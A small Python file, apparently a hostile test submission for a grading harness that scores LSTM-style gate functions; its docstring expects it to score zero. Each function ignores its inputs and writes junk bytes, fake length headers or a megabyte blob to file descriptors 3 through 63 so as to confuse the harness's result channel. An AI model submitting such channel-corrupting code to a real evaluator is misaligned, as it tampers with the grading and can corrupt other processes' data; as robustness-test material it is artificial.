"""Aim: confuse the reader of the channel with bytes that are no message.
At most: 0 points of gates.
"""

import os
import random


def forget_gate(*args):
    for fd in range(3, 64):
        try:
            os.write(fd, random.randbytes(1000))
        except OSError:
            pass


def input_gate(*args):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\xff\xff\xff\xff" * 100)
        except OSError:
            pass


def output_gate(*args):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\x00\x00\x00\x08" + b"\x91" * 8)
        except OSError:
            pass


def candidate(*args):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\x00\x10\x00\x00" + b"\x91" * 2**20)
        except OSError:
            pass
